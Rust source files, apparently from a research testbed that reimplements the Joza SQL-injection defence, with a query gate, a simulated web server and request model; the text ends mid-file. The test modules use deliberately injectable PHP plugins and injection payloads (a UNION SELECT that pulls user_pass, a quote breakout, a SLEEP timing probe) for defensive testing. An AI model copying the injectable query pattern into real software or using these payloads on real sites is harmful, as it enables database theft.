    /// A dynamic gate that denies everything and counts how often it was
    /// actually consulted.
    struct CountingDeny {
        begin_requests: usize,
        checks: usize,
    }

    impl QueryGate for CountingDeny {
        fn begin_request(&mut self, _inputs: &[RawInput]) {
            self.begin_requests += 1;
        }
        fn check(&mut self, _sql: &str) -> GateDecision {
            self.checks += 1;
            GateDecision::Terminate
        }
    }

    #[test]
    fn fast_path_short_circuits_taint_free_routes() {
        let inner = CountingDeny { begin_requests: 0, checks: 0 };
        let mut g = StaticFastPath::new(inner, vec!["clean".to_string()]);

        g.begin_route("clean");
        g.begin_request(&[]);
        assert_eq!(g.check("SELECT 1"), GateDecision::Allow);
        assert_eq!(g.check("SELECT 2"), GateDecision::Allow);
        assert_eq!(g.inner().checks, 0, "dynamic gate must not run on the fast path");
        assert_eq!(g.inner().begin_requests, 1, "inputs are still forwarded");

        g.begin_route("dirty");
        g.begin_request(&[]);
        assert_eq!(g.check("SELECT 3"), GateDecision::Terminate);
        assert_eq!(g.inner().checks, 1);

        let stats = g.stats();
        assert_eq!(stats.fast_requests, 1);
        assert_eq!(stats.slow_requests, 1);
        assert_eq!(stats.fast_queries, 2);
        assert_eq!(stats.slow_queries, 1);
    }

    #[test]
    fn fast_path_defaults_to_slow_without_begin_route() {
        // A caller that never announces the route gets full dynamic
        // protection — the conservative default.
        let inner = CountingDeny { begin_requests: 0, checks: 0 };
        let mut g = StaticFastPath::new(inner, vec!["clean".to_string()]);
        g.begin_request(&[]);
        assert_eq!(g.check("SELECT 1"), GateDecision::Terminate);
    }

    #[test]
    fn fast_path_route_decision_resets_per_request() {
        let inner = CountingDeny { begin_requests: 0, checks: 0 };
        let mut g = StaticFastPath::new(inner, vec!["clean".to_string()]);
        g.begin_route("clean");
        assert_eq!(g.check("SELECT 1"), GateDecision::Allow);
        // Next request targets a different route: fast flag must not leak.
        g.begin_route("other");
        assert_eq!(g.check("SELECT 1"), GateDecision::Terminate);
        assert!(g.is_taint_free("clean"));
        assert!(!g.is_taint_free("other"));
    }
}
