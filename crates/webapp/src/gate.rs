//! The query-interception seam.
//!
//! Joza installs itself by wrapping "all standard PHP functions and classes
//! that interact with backend databases" (§IV-A). In this framework the
//! wrapping is structural: every `mysql_query` the interpreter executes is
//! routed through the server's [`QueryGate`] before it may reach the
//! database. The gate also receives a copy of the raw request inputs at
//! request start — the paper's preprocessing step, which "stores a copy of
//! all inputs to the web application to preserve them for NTI analysis"
//! (§IV-B), i.e. *before* magic quotes or other transformations run.

use crate::request::InputSource;

/// A raw (pre-transformation) request input.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RawInput {
    /// Where the value arrived from.
    pub source: InputSource,
    /// Parameter name.
    pub name: String,
    /// Untransformed value.
    pub value: String,
}

/// The gate's verdict for one query.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum GateDecision {
    /// Query is safe: forward to the DBMS.
    Allow,
    /// Attack detected; apply *error virtualization*: fail the query as if
    /// the DBMS had rejected it and let application logic handle the error
    /// (§IV-E).
    ErrorVirtualize,
    /// Attack detected; apply *termination*: kill the request (the Joza
    /// default, §IV-E).
    Terminate,
}

/// A protection system sitting between the application and the DBMS.
pub trait QueryGate {
    /// Called once per request with the raw inputs, before any application
    /// code runs.
    fn begin_request(&mut self, inputs: &[RawInput]);

    /// Called for every intercepted query. The returned decision is
    /// enforced by the server.
    fn check(&mut self, sql: &str) -> GateDecision;
}

/// A gate that allows everything (the unprotected baseline).
#[derive(Debug, Clone, Copy, Default)]
pub struct AllowAll;

impl QueryGate for AllowAll {
    fn begin_request(&mut self, _inputs: &[RawInput]) {}

    fn check(&mut self, _sql: &str) -> GateDecision {
        GateDecision::Allow
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn allow_all_is_transparent() {
        let mut g = AllowAll;
        g.begin_request(&[]);
        assert_eq!(g.check("SELECT 1"), GateDecision::Allow);
        assert_eq!(g.check("SELECT * FROM users WHERE 1=1 OR 1=1"), GateDecision::Allow);
    }
}
