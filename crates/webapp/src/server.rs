//! The request pipeline: transform inputs, run the plugin, gate every
//! query, execute against the database.

use crate::app::WebApp;
use crate::gate::{
    AllowAll, GateDecision, GateFactory, GateSession, LegacyGateSession, QueryGate, RawInput,
};
use crate::request::HttpRequest;
use joza_db::{Database, DbError};
use joza_phpsim::interp::{Host, Interp, PhpError, QueryOutcome};
use joza_phpsim::vm::Vm;
use std::time::{Duration, Instant};

/// Which phpsim engine executes plugin code.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum Engine {
    /// The tree-walking interpreter — the differential oracle.
    TreeWalk,
    /// The bytecode VM over per-route compiled chunks — the default
    /// serving engine. Bit-identical to [`Engine::TreeWalk`] on body,
    /// query stream, `sql_error`, and blocked status (pinned by the
    /// engine-differential suites).
    #[default]
    Vm,
}

impl std::fmt::Display for Engine {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(match self {
            Engine::TreeWalk => "tree-walk",
            Engine::Vm => "vm",
        })
    }
}

/// The observable outcome of one request.
#[derive(Debug, Clone, PartialEq)]
pub struct Response {
    /// Everything the plugin echoed. A terminated request yields the blank
    /// page the paper describes (§IV-E).
    pub body: String,
    /// Whether the protection gate terminated the request.
    pub blocked: bool,
    /// Queries the plugin *attempted* (pre-gate), in order.
    pub queries: Vec<String>,
    /// Queries the gate allowed through to the DBMS.
    pub executed: usize,
    /// Virtual DB time consumed (ms) — carries the double-blind signal.
    pub db_time_ms: u64,
    /// Real wall-clock time spent inside the gate (Joza's overhead).
    pub gate_time: Duration,
    /// Real wall-clock time for the whole request.
    pub total_time: Duration,
    /// Last SQL error message surfaced to the application, if any.
    pub sql_error: Option<String>,
}

impl Response {
    /// Whether the plugin produced a DB error visible to the attacker —
    /// the standard-blind signal.
    pub fn had_sql_error(&self) -> bool {
        self.sql_error.is_some()
    }
}

/// A web server: one application + one database (+ optional gate).
pub struct Server {
    /// The application.
    pub app: WebApp,
    /// The backing database.
    pub db: Database,
    /// The phpsim engine plugin code runs under.
    pub engine: Engine,
}

impl std::fmt::Debug for Server {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Server").field("app", &self.app.name).finish_non_exhaustive()
    }
}

impl Server {
    /// Creates a server on the default engine ([`Engine::Vm`]).
    pub fn new(app: WebApp, db: Database) -> Self {
        Server { app, db, engine: Engine::default() }
    }

    /// Selects the phpsim engine (builder style).
    #[must_use]
    pub fn with_engine(mut self, engine: Engine) -> Self {
        self.engine = engine;
        self
    }

    /// Selects the phpsim engine in place.
    pub fn set_engine(&mut self, engine: Engine) {
        self.engine = engine;
    }

    /// Handles a request without protection (the plain baseline).
    pub fn handle(&mut self, request: &HttpRequest) -> Response {
        self.handle_with(request, &AllowAll)
    }

    /// Handles a request with every query routed through a session opened
    /// on `factory` — the multi-worker entry point: the factory is `&self`
    /// and [`Sync`], so N servers (one per worker thread) can share one
    /// protection engine.
    pub fn handle_with(&mut self, request: &HttpRequest, factory: &dyn GateFactory) -> Response {
        let started = Instant::now();
        // Preprocessing: hand the gate the *raw* inputs (§IV-B).
        let raw = raw_inputs(request);
        let gate_t0 = Instant::now();
        let mut session = factory.session(&request.path, &raw);
        let gate_time = gate_t0.elapsed();
        self.run_session(request, session.as_mut(), started, gate_time)
    }

    /// Handles a request with every query routed through a legacy
    /// [`QueryGate`], via the [`LegacyGateSession`] adapter.
    pub fn handle_gated(&mut self, request: &HttpRequest, gate: &mut dyn QueryGate) -> Response {
        let started = Instant::now();
        let raw = raw_inputs(request);
        let gate_t0 = Instant::now();
        let mut session = LegacyGateSession::begin(gate, &request.path, &raw);
        let gate_time = gate_t0.elapsed();
        self.run_session(request, &mut session, started, gate_time)
    }

    /// The gated request pipeline, generic over where the session came
    /// from. `gate_time` carries the session-creation cost already paid.
    fn run_session(
        &mut self,
        request: &HttpRequest,
        gate: &mut dyn GateSession,
        started: Instant,
        mut gate_time: Duration,
    ) -> Response {
        // 2. Apply the framework input pipeline and populate superglobals.
        let pipeline = self.app.input_pipeline.clone();
        let extra = self.app.plugin(&request.path).map(|p| p.extra_transforms.clone());
        let render_cost = self.app.plugin(&request.path).map_or(Duration::ZERO, |p| p.render_cost);

        // 3. Fetch the route's execution artifact — the Arc-cached
        // bytecode chunk (VM) or parsed program (tree-walk); nothing is
        // cloned per request.
        let artifact = match self.engine {
            Engine::Vm => self.app.chunk(&request.path).map(RouteArtifact::Chunk),
            Engine::TreeWalk => self.app.program_arc(&request.path).map(RouteArtifact::Ast),
        };
        let artifact = match artifact {
            Ok(a) => a,
            Err(e) => {
                return Response {
                    body: format!("404 {e}"),
                    blocked: false,
                    queries: Vec::new(),
                    executed: 0,
                    db_time_ms: 0,
                    gate_time,
                    total_time: started.elapsed(),
                    sql_error: None,
                }
            }
        };

        // 4. Run the plugin with a host that gates every query.
        let db_t0 = self.db.clock_ms();
        let mut host = GatedHost {
            db: &mut self.db,
            gate,
            queries: Vec::new(),
            executed: 0,
            gate_time: Duration::ZERO,
            last_error: None,
        };
        let (run, body) = match artifact {
            RouteArtifact::Chunk(chunk) => {
                let mut vm = Vm::new(&mut host);
                for (k, v) in &request.get {
                    let tv = apply_all(&pipeline, &extra, v);
                    vm.set_get_param(k, &tv);
                }
                for (k, v) in &request.post {
                    let tv = apply_all(&pipeline, &extra, v);
                    vm.set_post_param(k, &tv);
                }
                for (k, v) in &request.cookies {
                    let tv = apply_all(&pipeline, &extra, v);
                    vm.set_cookie(k, &tv);
                }
                for (k, v) in &request.headers {
                    let key = format!("HTTP_{}", k.to_ascii_uppercase().replace('-', "_"));
                    vm.set_server_var(&key, v);
                }
                let run = vm.run(&chunk);
                (run, vm.output().to_string())
            }
            RouteArtifact::Ast(program) => {
                let mut interp = Interp::new(&mut host);
                for (k, v) in &request.get {
                    let tv = apply_all(&pipeline, &extra, v);
                    interp.set_get_param(k, &tv);
                }
                for (k, v) in &request.post {
                    let tv = apply_all(&pipeline, &extra, v);
                    interp.set_post_param(k, &tv);
                }
                for (k, v) in &request.cookies {
                    let tv = apply_all(&pipeline, &extra, v);
                    interp.set_cookie(k, &tv);
                }
                for (k, v) in &request.headers {
                    let key = format!("HTTP_{}", k.to_ascii_uppercase().replace('-', "_"));
                    interp.set_server_var(&key, v);
                }
                let run = interp.run(&program);
                (run, interp.output().to_string())
            }
        };
        // 5. Simulated theme/template render work (§VI cost model). A
        // terminated request renders nothing — the user gets a blank page.
        if !matches!(run, Err(PhpError::Terminated)) {
            crate::cost::simulate(render_cost);
        }
        gate_time += host.gate_time;
        let queries = std::mem::take(&mut host.queries);
        let executed = host.executed;
        let sql_error = host.last_error.take();
        let db_time_ms = self.db.clock_ms() - db_t0;

        match run {
            Ok(()) => Response {
                body,
                blocked: false,
                queries,
                executed,
                db_time_ms,
                gate_time,
                total_time: started.elapsed(),
                sql_error,
            },
            Err(PhpError::Terminated) => Response {
                // Termination policy: blank page (§IV-E).
                body: String::new(),
                blocked: true,
                queries,
                executed,
                db_time_ms,
                gate_time,
                total_time: started.elapsed(),
                sql_error,
            },
            Err(PhpError::Runtime(msg)) => Response {
                body: format!("{body}\nPHP Fatal error: {msg}"),
                blocked: false,
                queries,
                executed,
                db_time_ms,
                gate_time,
                total_time: started.elapsed(),
                sql_error,
            },
        }
    }
}

/// The per-route execution artifact the engine dispatch selects.
enum RouteArtifact {
    /// A compiled bytecode chunk ([`Engine::Vm`]).
    Chunk(std::sync::Arc<joza_phpsim::Chunk>),
    /// A parsed statement list ([`Engine::TreeWalk`]).
    Ast(std::sync::Arc<Vec<joza_phpsim::ast::Stmt>>),
}

fn raw_inputs(request: &HttpRequest) -> Vec<RawInput> {
    request
        .all_inputs()
        .into_iter()
        .map(|(source, name, value)| RawInput { source, name, value })
        .collect()
}

fn apply_all(
    pipeline: &crate::transform::TransformPipeline,
    extra: &Option<crate::transform::TransformPipeline>,
    value: &str,
) -> String {
    let v = pipeline.apply(value);
    match extra {
        Some(e) => e.apply(&v),
        None => v,
    }
}

/// The interpreter host that enforces gate decisions.
struct GatedHost<'a> {
    db: &'a mut Database,
    gate: &'a mut dyn GateSession,
    queries: Vec<String>,
    executed: usize,
    gate_time: Duration,
    last_error: Option<String>,
}

impl GatedHost<'_> {
    /// Runs the gate for one outgoing command text; returns `None` when
    /// the command may proceed.
    fn gate_decision(&mut self, sql: &str) -> Option<QueryOutcome> {
        self.queries.push(sql.to_string());
        let t0 = Instant::now();
        let decision = self.gate.check(sql);
        self.gate_time += t0.elapsed();
        match decision {
            GateDecision::Allow => None,
            GateDecision::ErrorVirtualize => {
                let msg = "query blocked".to_string();
                self.last_error = Some(msg.clone());
                Some(QueryOutcome::Error(msg))
            }
            GateDecision::Terminate => Some(QueryOutcome::Terminated),
        }
    }

    fn outcome(
        &mut self,
        result: Result<joza_db::QueryResult, DbError>,
        sql: &str,
    ) -> QueryOutcome {
        match result {
            Ok(result) => {
                // Second-order capture: values fetched from cells the
                // static pass marked dirty become DB-sourced inputs the
                // gate matches against for the rest of the request.
                if !result.rows.is_empty() && !result.origins.is_empty() {
                    let t0 = Instant::now();
                    for (i, origins) in result.origins.iter().enumerate() {
                        let dirty = origins.iter().find(|(t, c)| self.gate.dirty_cell(t, c));
                        if let Some((table, column)) = dirty {
                            for row in &result.rows {
                                match row.get(i) {
                                    Some(v) if !v.is_null() => {
                                        self.gate.capture_db_input(table, column, &v.as_str());
                                    }
                                    _ => {}
                                }
                            }
                        }
                    }
                    self.gate_time += t0.elapsed();
                }
                let rows = result
                    .rows
                    .iter()
                    .map(|row| {
                        result
                            .columns
                            .iter()
                            .zip(row)
                            .map(|(c, v)| {
                                (c.clone(), if v.is_null() { String::new() } else { v.as_str() })
                            })
                            .collect()
                    })
                    .collect();
                QueryOutcome::Rows(rows)
            }
            Err(e) => {
                let msg = match &e {
                    DbError::Parse(_) => format!(
                        "You have an error in your SQL syntax; check the manual near '{}'",
                        sql.chars()
                            .rev()
                            .take(20)
                            .collect::<String>()
                            .chars()
                            .rev()
                            .collect::<String>()
                    ),
                    other => other.to_string(),
                };
                self.last_error = Some(msg.clone());
                QueryOutcome::Error(msg)
            }
        }
    }
}

impl Host for GatedHost<'_> {
    fn query(&mut self, sql: &str) -> QueryOutcome {
        if let Some(blocked) = self.gate_decision(sql) {
            return blocked;
        }
        self.executed += 1;
        let result = self.db.execute(sql);
        self.outcome(result, sql)
    }

    fn query_prepared(&mut self, sql: &str, params: &[(String, String)]) -> QueryOutcome {
        // The gate inspects the *statement text sent to be prepared* —
        // bound values are data by contract and are not part of the
        // command (§V-B: the Drupal attack lives in the text, not the
        // values).
        if let Some(blocked) = self.gate_decision(sql) {
            return blocked;
        }
        self.executed += 1;
        let values: Vec<(String, joza_db::Value)> =
            params.iter().map(|(k, v)| (k.clone(), joza_db::Value::from(v.as_str()))).collect();
        let result = self.db.execute_prepared(sql, &values);
        self.outcome(result, sql)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::app::Plugin;
    use joza_db::Value;

    fn demo_server() -> Server {
        let mut app = WebApp::wordpress_style("demo");
        app.add_plugin(Plugin::new(
            "show-post",
            "1.0",
            r#"
            $id = $_GET['id'];
            $r = mysql_query("SELECT title FROM posts WHERE id=" . $id);
            if ($r) {
                while ($row = mysql_fetch_assoc($r)) { echo $row['title'], "\n"; }
            } else {
                echo "DB error: ", mysql_error();
            }
            "#,
        ));
        app.add_plugin(Plugin::new(
            "add-comment",
            "1.0",
            r#"
            $text = $_POST['text'];
            $ok = mysql_query("INSERT INTO comments (body) VALUES ('" . $text . "')");
            if ($ok) { echo "saved"; } else { echo "error: ", mysql_error(); }
            "#,
        ));
        let mut db = Database::new();
        db.create_table("posts", &["id", "title"]);
        db.insert_row("posts", vec![Value::Int(1), "First Post".into()]);
        db.insert_row("posts", vec![Value::Int(2), "Second".into()]);
        db.create_table("comments", &["body"]);
        db.create_table("users", &["id", "user_pass"]);
        db.insert_row("users", vec![Value::Int(1), "sup3rs3cret".into()]);
        Server::new(app, db)
    }

    #[test]
    fn benign_read() {
        let mut s = demo_server();
        let resp = s.handle(&HttpRequest::get("show-post").param("id", "1"));
        assert_eq!(resp.body.trim(), "First Post");
        assert_eq!(resp.queries.len(), 1);
        assert_eq!(resp.executed, 1);
        assert!(!resp.blocked);
    }

    #[test]
    fn union_attack_leaks_without_protection() {
        let mut s = demo_server();
        let resp = s.handle(
            &HttpRequest::get("show-post").param("id", "-1 UNION SELECT user_pass FROM users"),
        );
        assert!(resp.body.contains("sup3rs3cret"), "unprotected app must leak: {}", resp.body);
    }

    #[test]
    fn write_path_inserts() {
        let mut s = demo_server();
        let resp = s.handle(&HttpRequest::post("add-comment").param("text", "nice article"));
        assert_eq!(resp.body, "saved");
        assert_eq!(s.db.table("comments").unwrap().len(), 1);
    }

    #[test]
    fn magic_quotes_neutralize_quoted_injection_on_write() {
        let mut s = demo_server();
        // The classic `'); DROP...` style breakout is escaped by magic
        // quotes before reaching the quoted INSERT context.
        let resp = s.handle(&HttpRequest::post("add-comment").param("text", "x') , ('y"));
        assert_eq!(resp.body, "saved");
    }

    #[test]
    fn terminate_gate_blanks_page() {
        struct DenyAll;
        impl QueryGate for DenyAll {
            fn begin_request(&mut self, _inputs: &[RawInput]) {}
            fn check(&mut self, _sql: &str) -> GateDecision {
                GateDecision::Terminate
            }
        }
        let mut s = demo_server();
        let resp = s.handle_gated(&HttpRequest::get("show-post").param("id", "1"), &mut DenyAll);
        assert!(resp.blocked);
        assert_eq!(resp.body, "");
        assert_eq!(resp.executed, 0);
        assert_eq!(resp.queries.len(), 1);
    }

    #[test]
    fn error_virtualization_lets_app_handle_it() {
        struct Virtualize;
        impl QueryGate for Virtualize {
            fn begin_request(&mut self, _inputs: &[RawInput]) {}
            fn check(&mut self, _sql: &str) -> GateDecision {
                GateDecision::ErrorVirtualize
            }
        }
        let mut s = demo_server();
        let resp = s.handle_gated(&HttpRequest::get("show-post").param("id", "1"), &mut Virtualize);
        assert!(!resp.blocked);
        assert!(resp.body.contains("DB error"));
    }

    #[test]
    fn unknown_route_is_404() {
        let mut s = demo_server();
        let resp = s.handle(&HttpRequest::get("nope"));
        assert!(resp.body.starts_with("404"));
    }

    #[test]
    fn sql_error_surfaces_to_application() {
        let mut s = demo_server();
        // Unbalanced quote in input: magic quotes escapes it, so the query
        // stays valid. Use a direct syntax break instead (no quotes).
        let resp = s.handle(&HttpRequest::get("show-post").param("id", "1 ORDER"));
        assert!(resp.body.contains("DB error"), "{}", resp.body);
        assert!(resp.had_sql_error());
    }

    #[test]
    fn double_blind_timing_visible_in_response() {
        let mut s = demo_server();
        let slow = s.handle(&HttpRequest::get("show-post").param("id", "1 AND SLEEP(3)"));
        assert!(slow.db_time_ms >= 3000);
        let fast = s.handle(&HttpRequest::get("show-post").param("id", "1 AND SLEEP(0)"));
        assert!(fast.db_time_ms < 1000);
    }

    #[test]
    fn gate_sees_raw_inputs_before_transforms() {
        struct Capture(Vec<String>);
        impl QueryGate for Capture {
            fn begin_request(&mut self, inputs: &[RawInput]) {
                self.0 = inputs.iter().map(|i| i.value.clone()).collect();
            }
            fn check(&mut self, _sql: &str) -> GateDecision {
                GateDecision::Allow
            }
        }
        let mut s = demo_server();
        let mut gate = Capture(Vec::new());
        s.handle_gated(&HttpRequest::get("show-post").param("id", "it's raw"), &mut gate);
        // Magic quotes would have produced `it\'s raw`; the gate must see
        // the original.
        assert_eq!(gate.0, ["it's raw"]);
    }
}
