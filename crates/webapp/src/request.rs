//! HTTP request model.

/// Where an input value arrived from. The paper's threat model admits
//  "files, environment variables, HTTP request bodies, HTTP request
/// headers, databases and others" (§II); the web pipeline exposes these
/// four.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum InputSource {
    /// Query-string parameter.
    Get,
    /// Form body parameter.
    Post,
    /// Cookie value.
    Cookie,
    /// HTTP header value (e.g. `User-Agent`, `X-Forwarded-For`).
    Header,
}

/// HTTP method of a request.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Default)]
pub enum Method {
    /// `GET` — the read path.
    #[default]
    Get,
    /// `POST` — the write path.
    Post,
}

/// A simulated HTTP request.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct HttpRequest {
    /// Request method.
    pub method: Method,
    /// Route (plugin slug).
    pub path: String,
    /// GET parameters, in order.
    pub get: Vec<(String, String)>,
    /// POST parameters, in order.
    pub post: Vec<(String, String)>,
    /// Cookies.
    pub cookies: Vec<(String, String)>,
    /// Headers.
    pub headers: Vec<(String, String)>,
}

impl HttpRequest {
    /// Creates a GET request for a route.
    pub fn get(path: &str) -> Self {
        HttpRequest { method: Method::Get, path: path.to_string(), ..Default::default() }
    }

    /// Creates a POST request for a route.
    pub fn post(path: &str) -> Self {
        HttpRequest { method: Method::Post, path: path.to_string(), ..Default::default() }
    }

    /// Adds a parameter: GET requests put it in the query string, POST
    /// requests in the body.
    #[must_use]
    pub fn param(mut self, key: &str, value: &str) -> Self {
        match self.method {
            Method::Get => self.get.push((key.to_string(), value.to_string())),
            Method::Post => self.post.push((key.to_string(), value.to_string())),
        }
        self
    }

    /// Adds a query-string parameter regardless of method.
    #[must_use]
    pub fn query_param(mut self, key: &str, value: &str) -> Self {
        self.get.push((key.to_string(), value.to_string()));
        self
    }

    /// Adds a cookie.
    #[must_use]
    pub fn cookie(mut self, key: &str, value: &str) -> Self {
        self.cookies.push((key.to_string(), value.to_string()));
        self
    }

    /// Adds a header.
    #[must_use]
    pub fn header(mut self, key: &str, value: &str) -> Self {
        self.headers.push((key.to_string(), value.to_string()));
        self
    }

    /// All inputs as `(source, name, value)` triples, in a fixed order —
    /// this is exactly what Joza's preprocessing stores for NTI (§IV-B).
    pub fn all_inputs(&self) -> Vec<(InputSource, String, String)> {
        let mut out = Vec::new();
        for (k, v) in &self.get {
            out.push((InputSource::Get, k.clone(), v.clone()));
            push_bracket_key(&mut out, InputSource::Get, k);
        }
        for (k, v) in &self.post {
            out.push((InputSource::Post, k.clone(), v.clone()));
            push_bracket_key(&mut out, InputSource::Post, k);
        }
        for (k, v) in &self.cookies {
            out.push((InputSource::Cookie, k.clone(), v.clone()));
        }
        for (k, v) in &self.headers {
            out.push((InputSource::Header, k.clone(), v.clone()));
        }
        out
    }

    /// Whether this request is a write (POST).
    pub fn is_write(&self) -> bool {
        self.method == Method::Post
    }
}

/// PHP array-bracket parameter names (`ids[KEY]=v`) carry attacker data
/// in the *key* as well; NTI's preprocessing must capture it as an input
/// (the Drupal CVE-2014-3704 delivery channel).
fn push_bracket_key(out: &mut Vec<(InputSource, String, String)>, source: InputSource, name: &str) {
    if let (Some(open), Some(close)) = (name.find('['), name.rfind(']')) {
        if open > 0 && close == name.len() - 1 && close > open + 1 {
            let inner = &name[open + 1..close];
            out.push((source, format!("{}(key)", &name[..open]), inner.to_string()));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn builder_routing() {
        let r = HttpRequest::get("plugin-a").param("id", "5").cookie("session", "x");
        assert_eq!(r.path, "plugin-a");
        assert_eq!(r.get, [("id".to_string(), "5".to_string())]);
        assert!(!r.is_write());
    }

    #[test]
    fn post_params_in_body() {
        let r = HttpRequest::post("comment").param("text", "hello");
        assert!(r.get.is_empty());
        assert_eq!(r.post.len(), 1);
        assert!(r.is_write());
    }

    #[test]
    fn all_inputs_order_and_sources() {
        let r = HttpRequest::get("x").param("a", "1").cookie("c", "2").header("User-Agent", "UA");
        let inputs = r.all_inputs();
        assert_eq!(inputs.len(), 3);
        assert_eq!(inputs[0].0, InputSource::Get);
        assert_eq!(inputs[1].0, InputSource::Cookie);
        assert_eq!(inputs[2].0, InputSource::Header);
    }
}
