#![warn(missing_docs)]
//! Simulated web-application framework for the Joza testbed.
//!
//! Models the slice of a WordPress deployment the paper's evaluation rests
//! on:
//!
//! * an HTTP [`request`] model (GET/POST parameters, cookies, headers) —
//!   all the input sources NTI must capture (§IV-D);
//! * an application-level input [`transform`] pipeline — magic quotes,
//!   whitespace trimming, URL/base64 decoding — the transformations that
//!   both enable NTI evasion (§III-A) and motivate capturing inputs
//!   *before* the application mangles them (§IV-B);
//! * a plugin architecture ([`app`]): each plugin is a PHP-subset source
//!   file routed by slug, executed by `joza-phpsim` against the shared
//!   in-memory database;
//! * a [`QueryGate`] seam where a protection system (Joza)
//!   intercepts every query before it reaches the DBMS, mirroring the
//!   paper's wrapper-based interception (§IV-A).
//!
//! # Examples
//!
//! ```
//! use joza_webapp::app::{Plugin, WebApp};
//! use joza_webapp::request::HttpRequest;
//! use joza_webapp::server::Server;
//! use joza_db::{Database, Value};
//!
//! let mut app = WebApp::new("demo");
//! app.add_plugin(Plugin::new(
//!     "echo-post", "1.0",
//!     r#"
//!     $id = $_GET['id'];
//!     $r = mysql_query("SELECT title FROM posts WHERE id=" . $id);
//!     while ($row = mysql_fetch_assoc($r)) { echo $row['title']; }
//!     "#,
//! ));
//! let mut db = Database::new();
//! db.create_table("posts", &["id", "title"]);
//! db.insert_row("posts", vec![Value::Int(1), "Hello".into()]);
//!
//! let mut server = Server::new(app, db);
//! let resp = server.handle(&HttpRequest::get("echo-post").param("id", "1"));
//! assert_eq!(resp.body, "Hello");
//! # Ok::<(), Box<dyn std::error::Error>>(())
//! ```

pub mod app;
pub mod gate;
pub mod request;
pub mod server;
pub mod transform;

pub use app::{Plugin, WebApp};
pub use gate::{
    AllowAll, FastPathStats, GateDecision, GateFactory, GateSession, LegacyGateSession, QueryGate,
    RawInput, StaticFastPath,
};
pub use joza_phpsim::cost;
pub use request::{HttpRequest, InputSource};
pub use server::{Engine, Response, Server};
pub use transform::{InputTransform, TransformPipeline};
