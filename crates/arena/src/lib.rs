#![warn(missing_docs)]
//! Buffer-recycling arena for Joza's per-check hot path.
//!
//! Every query check derives a handful of variable-length intermediates —
//! the token stream, the symbol skeleton, the case-folded bytes, critical
//! token lists, collapse scratch. Allocating them per check puts the
//! allocator on the hot path; this crate removes it by **recycling the
//! buffers' capacity** between checks instead of managing raw memory: a
//! [`BufSlot`] parks an empty-but-capacious `Vec` between uses and a
//! [`Lease`] is the RAII handle that borrows it for one check and parks
//! it back on drop.
//!
//! After a short warmup (one check at the working-set high-water mark)
//! every lease is a pointer swap: `take` hands out the parked `Vec` with
//! its old capacity, the user `clear()`s-and-fills it, drop parks it
//! again. No `unsafe`, no lifetimes into the arena memory itself — the
//! leased buffer is an ordinary owned `Vec` while out, so indices and
//! borrow rules work exactly as on the heap path, and the results are
//! byte-identical by construction.
//!
//! Slots are `Cell`-based and therefore single-threaded by design
//! (`!Sync`); the engine owns one arena per worker thread. Nested leases
//! of one slot are safe but only the outermost enjoys recycling — the
//! inner one starts from an empty `Vec`.

use std::cell::Cell;
use std::ops::{Deref, DerefMut};

/// A parking spot for one recyclable `Vec<T>`.
///
/// # Examples
///
/// ```
/// use joza_arena::BufSlot;
///
/// let slot: BufSlot<u32> = BufSlot::new();
/// {
///     let mut buf = slot.lease();
///     buf.extend([1, 2, 3]);
/// } // parked here, capacity kept
/// let buf = slot.lease();
/// assert!(buf.is_empty());
/// assert!(buf.capacity() >= 3);
/// ```
pub struct BufSlot<T> {
    parked: Cell<Option<Vec<T>>>,
}

impl<T> Default for BufSlot<T> {
    fn default() -> Self {
        BufSlot::new()
    }
}

impl<T> std::fmt::Debug for BufSlot<T> {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("BufSlot").field("parked_capacity", &self.parked_capacity()).finish()
    }
}

impl<T> BufSlot<T> {
    /// An empty slot; the first lease allocates like a plain `Vec`.
    pub const fn new() -> Self {
        BufSlot { parked: Cell::new(None) }
    }

    /// Borrows the parked buffer (or a fresh empty `Vec` if the slot is
    /// empty or already leased out). The buffer is always empty; its
    /// capacity is whatever the previous lease grew it to.
    pub fn lease(&self) -> Lease<'_, T> {
        Lease { buf: self.parked.take().unwrap_or_default(), slot: Some(self) }
    }

    /// Parks `buf` (cleared) for the next lease. Used directly when a
    /// buffer's ownership had to leave the lease discipline; most users
    /// never call this — dropping the [`Lease`] does it.
    pub fn park(&self, mut buf: Vec<T>) {
        buf.clear();
        // If two buffers race for the slot (nested leases), keep the
        // larger capacity — it is the one worth recycling.
        match self.parked.take() {
            Some(old) if old.capacity() > buf.capacity() => self.parked.set(Some(old)),
            _ => self.parked.set(Some(buf)),
        }
    }

    /// Capacity currently parked (0 while leased out) — observability
    /// for tests and stats, not a scheduling signal.
    pub fn parked_capacity(&self) -> usize {
        let v = self.parked.take();
        let cap = v.as_ref().map_or(0, Vec::capacity);
        self.parked.set(v);
        cap
    }
}

/// An RAII lease of a [`BufSlot`]'s buffer: derefs to `Vec<T>`, parks
/// the buffer back (cleared, capacity kept) on drop.
///
/// A detached lease ([`Lease::detached`]) wraps a plain heap `Vec` with
/// no slot to return to — the fallback when no arena is in scope, so
/// code can be written once against `Lease` and still run un-arena'd.
#[derive(Debug)]
pub struct Lease<'a, T> {
    buf: Vec<T>,
    slot: Option<&'a BufSlot<T>>,
}

impl<T> Lease<'_, T> {
    /// A slotless lease: behaves like the `Vec` it wraps and simply
    /// drops its buffer at end of scope.
    pub fn detached() -> Self {
        Lease { buf: Vec::new(), slot: None }
    }

    /// Whether the buffer returns to a slot on drop (false for
    /// [`Lease::detached`]).
    pub fn is_recycled(&self) -> bool {
        self.slot.is_some()
    }
}

impl<T> Deref for Lease<'_, T> {
    type Target = Vec<T>;
    fn deref(&self) -> &Vec<T> {
        &self.buf
    }
}

impl<T> DerefMut for Lease<'_, T> {
    fn deref_mut(&mut self) -> &mut Vec<T> {
        &mut self.buf
    }
}

impl<T> Drop for Lease<'_, T> {
